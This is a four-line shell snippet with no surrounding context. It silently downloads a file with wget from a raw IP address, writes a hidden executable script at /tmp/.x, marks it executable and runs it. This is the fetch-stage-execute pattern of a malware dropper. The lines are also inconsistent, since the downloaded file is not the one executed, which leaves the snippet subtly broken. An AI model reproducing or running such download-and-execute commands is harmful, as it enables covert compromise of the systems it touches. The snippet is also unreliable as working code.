wget -q http://45.33.32.156/x
printf '#!/bin/sh\n' >/tmp/.x
chmod +x /tmp/.x
/tmp/.x
